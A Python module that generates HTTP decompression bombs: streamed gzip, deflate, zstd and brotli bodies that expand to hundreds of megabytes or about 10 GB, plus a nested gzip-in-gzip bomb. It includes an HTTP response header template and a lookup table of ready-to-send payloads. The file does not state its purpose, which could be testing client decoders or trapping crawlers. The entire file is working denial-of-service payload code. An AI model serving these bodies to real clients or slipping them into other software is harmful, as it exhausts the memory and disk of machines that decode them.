"""Answers that unpack to far more than they are; each can be sent piece by piece."""

import zlib
from collections.abc import Callable, Iterator

import brotli
import zstandard

MEGABYTE = bytes(1_000_000)
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: %s\r\n\r\n"


def gzip_bomb() -> Iterator[bytes]:
    """10 GB in 10 MB: members of 100 MB, one after the other."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    member = b"".join(packer.compress(MEGABYTE) for _ in range(100)) + packer.flush()
    return (member for _ in range(100))


def deflate_bomb() -> Iterator[bytes]:
    """10 GB: the same block of 1 MB over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return (block for _ in range(10_000))


def zstd_bomb() -> Iterator[bytes]:
    """10 GB: frames of 1 MB."""
    frame = zstandard.ZstdCompressor().compress(MEGABYTE)
    return (frame * 100 for _ in range(100))


def brotli_bomb() -> Iterator[bytes]:
    """About 300 MB in a few hundred bytes."""
    packer = brotli.Compressor(quality=3)
    return iter([b"".join(packer.process(MEGABYTE) for _ in range(300)) + packer.finish()])


def gzip_in_gzip() -> Iterator[bytes]:
    """A bomb within a bomb: 1,000 to 1, twice."""
    inner = b"".join(gzip_bomb())
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return iter([packer.compress(inner) + packer.flush()])


BOMBS: dict[str, tuple[bytes, Callable[[], Iterator[bytes]]]] = {
    "gzip": (b"gzip", gzip_bomb),
    "deflate": (b"deflate", deflate_bomb),
    "zstd": (b"zstd", zstd_bomb),
    "br": (b"br", brotli_bomb),
    "twice": (b"gzip, gzip", gzip_in_gzip),
}
